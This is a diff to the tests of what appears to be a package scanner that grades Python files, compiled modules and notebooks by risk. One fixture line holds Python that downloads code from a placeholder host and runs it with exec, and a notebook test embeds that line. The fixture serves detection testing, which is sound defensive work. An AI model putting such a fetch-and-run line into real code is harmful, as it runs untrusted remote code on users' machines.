@@ -65,6 +65,11 @@ test('a compiled module is set against its source', async () => {
   expect(await told(files, { compiledCode })).toEqual(['critical garden/a.pyc', 'medium garden/__pycache__/c.cpython-312.pyc', 'medium garden/__pycache__/d.cpython-312.pyc']);
 });
 
+test('a file that only the name makes byte code is told, an empty one is not', async () => {
+  const files = { 'garden/__init__.py': large, 'garden/__pycache__/a.pyc': 'no byte code, though long enough', 'garden/__pycache__/b.pyc': '' };
+  expect(await told(files, { compiledCode })).toEqual(['medium garden/__pycache__/a.pyc']);
+});
+
 const FETCHES = 'import requests\nexec(requests.get("https://garden.invalid").text)\n';
 
 test('a data file that a module runs on import is judged as code that runs on import', async () => {
@@ -92,7 +97,7 @@ test('the same holds in a source archive', async () => {
 
 test('cells of a notebook are judged as code that somebody has to call', async () => {
   const notebook = JSON.stringify({ cells: [{ cell_type: 'code', source: ['%pip install x\n', ...FETCHES.split(/(?<=\n)/)] }] });
-  expect(await told({ 'garden/__init__.py': large, 'garden/a.ipynb': notebook }, { downloadThenRun })).toEqual(['low garden/a.ipynb']);
+  expect(await told({ 'garden/__init__.py': large, 'garden/a.ipynb': notebook }, { downloadThenRun })).toEqual(['medium garden/a.ipynb']);
 });
 
 test('scripts are read by their suffix, and in the folder for commands by their first line', async () => {
